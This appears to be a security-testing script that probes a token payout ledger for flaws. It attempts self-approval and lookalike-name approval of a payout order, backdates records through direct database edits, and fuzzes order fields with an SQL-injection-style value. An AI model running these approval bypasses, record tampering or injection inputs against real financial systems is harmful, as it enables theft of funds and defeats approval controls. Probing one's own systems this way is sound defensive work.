from chainlib import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json')); k2=json.load(open('keys2.json'))
def W(c): 
    r=q('owner','select wallet,set_by,hold_until,held_for,proof from ledger.wallets where creator_id=%s',c); return [str(x) for x in r[0]] if r else None
print('D1 vic3',W(ids['vic3']))
# F-C2 open ATA by creator then release
Ak=ids['att1']; a=kp('att_w')
S=Pubkey.from_string('11111111111111111111111111111111')
ix=Instruction(AT,bytes([1]),[AccountMeta(a.pubkey(),True,True),AccountMeta(ata(a.pubkey()),False,True),AccountMeta(a.pubkey(),False,False),AccountMeta(M,False,False),AccountMeta(S,False,False),AccountMeta(TOK,False,False)])
print('create own ATA',send([ix],a)); time.sleep(5); print(pixr('payouts','release','hold-2')); 
for _ in range(8):
    time.sleep(1); b=bal(a.pubkey())
    if str(b)!='0' and str(b).isdigit(): break
print('paid after own opening:',bal(a.pubkey()))
# D4 orders by two
def po(k,kind,b): 
    try: return q('ledger',"select ledger.place_order(%s,%s,%s::jsonb,'r',86400)",k,kind,json.dumps(b))
    except Exception as e: return str(e).split('\n')[0]
def ap(k,n):
    try: return q('ledger',"select ledger.approve_order(%s,%s)",k,n)
    except Exception as e: return str(e).split('\n')[0]
B={'from':'reward_pool','to':f'payable:creator:{Ak}','asset':'PIX','amount':4242}
o=po(ADMIN,'correction',B); print('order',o); n=o[0][0]
print('approve by same',ap(ADMIN,n))
s,d=req('POST','/v1/keys',ADMIN,{'name':'admin','scopes':['admin']}); print('2nd key of same name',s,d.get('detail')); kA2=d.get('key'); 
if kA2: print('approve by 2nd key same name',ap(kA2,n))
s,d=req('POST','/v1/keys',ADMIN,{'name':'admin\u200b','scopes':['admin']}); print('lookalike admin key',s,str(d.get('name'))); kL=d.get('key')
if kL: print('approve by young lookalike',ap(kL,n))
print('serve backdates', q('serve',"update app.api_keys set created_at='2026-01-01' where id=%s",d['id']))
if kL: print('approve by backdated lookalike',ap(kL,n))
print('serve backdates principal', q('serve',"update app.principals set created_at='2026-01-01' where name=%s",'admin\u200b'))
if kL: print('approve by backdated lookalike',ap(kL,n))
time.sleep(3); print(q('owner','select id,kind,ordered_as,approved_as,carried_out,outcome from ledger.orders order by id desc limit 3'))
print(pixr('payouts','order','list')[1][:700])
# search key / creator key as an orderer
print('order by creator key',po(keys['vic1'],'correction',B)); print('by search key',po(k2['s'],'correction',B)); print('empty',po('','correction',B))
# unknown bodies
for b in [{**B,'amount':'4242'},{**B,'amount':4.5},{**B,'amount':-5},{**B,'amount':10**30},{**B,'to':'in_flight'},{**B,'to':"payable:creator:8'; drop"},{'x':1},{**B,'to':'payable:creator:99999999999999999999999'}]:
    o=po(ADMIN,'correction',b); print('body',b.get('to'),b.get('amount'),o)
